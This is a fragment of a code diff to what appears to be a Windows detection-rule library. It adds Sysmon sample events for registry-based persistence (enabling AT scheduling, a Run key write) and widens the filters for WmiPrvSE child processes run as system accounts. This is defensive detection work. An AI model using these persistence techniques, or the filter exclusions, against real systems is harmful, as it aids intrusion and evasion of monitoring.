         ex!(SYSMON, "11", "TargetFilename" = "C:\\x\\CurrentVersion\\Schedule\\Configuration\\EnableAt"),
+    ],
+    public: &[
+        FromPublic {
+            origin: Origin::Escu("C15"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "13", "EventType" = "SetValue", "ProcessId" = "5412", "Image" = "C:\\Windows\\system32\\reg.exe", "TargetObject" = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\Configuration\\EnableAt", "Details" = "DWORD (0x00000001)", "User" = "CORP\\alice"),
+            targets: &[],
+            contrast: Some((ex!(SYSMON, "13", "EventType" = "SetValue", "ProcessId" = "1288", "Image" = "C:\\Windows\\system32\\svchost.exe", "TargetObject" = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\Updater\\Id", "Details" = "{4B3A2C1D-5E6F-4A7B-8C9D-0E1F2A3B4C5D}", "User" = "NT AUTHORITY\\SYSTEM"), Contrast::Filtered)),
+        },
     ],
 };
 
@@ -947,6 +1332,7 @@ const WMI_REGISTRY_WRITE: Rule = Rule {
         ex!(SYSMON, "12", "EventType" = "CreateKey", "Image" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe", "TargetObject" = "HKLM\\SOFTWARE\\Microsoft\\Wbem"),
         ex!(SYSMON, "13", "EventType" = "SetValue", "Image" = "C:\\Windows\\system32\\svchost.exe", "TargetObject" = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x", "Details" = "x.exe"),
     ],
+    public: &[],
 };
 
 // ------------------------------------------------- shared by its rules
@@ -954,11 +1340,14 @@ const WMI_REGISTRY_WRITE: Rule = Rule {
 /// Children of WmiPrvSE.exe that are its own housekeeping.
 const WMI_CHILD_NOISE: &[&str] = &["werfault.exe", "wmiprvse.exe", "dismhost.exe", "wermgr.exe"];
 
-/// Children of WmiPrvSE.exe run by the machine itself: as SYSTEM, in its
-/// logon session (0x3e7), or by the ConfigMgr client (`\ccm\`).
+/// Children of WmiPrvSE.exe run by the machine itself: as SYSTEM, NETWORK
+/// SERVICE or LOCAL SERVICE (`NT AUTHORITY`, `AUTORITE NT`, `NT-AUTORITÄT`
+/// …: Sigma d21374ff's filter), in their logon sessions (0x3e7, 0x3e4,
+/// 0x3e5), or by the ConfigMgr client (`\ccm\`).
 const WMI_CHILD_SYSTEM: &[(F, Test)] = &[
     (F::User, Test::EndsWith(&["system"])),
-    (F::LogonId, Test::Is(&["0x3e7"])),
+    (F::User, Test::Contains(&["authori", "autori"])),
+    (F::LogonId, Test::Is(&["0x3e7", "0x3e4", "0x3e5"])),
     (F::Image, Test::Contains(&["\\ccm\\"])),
 ];
 
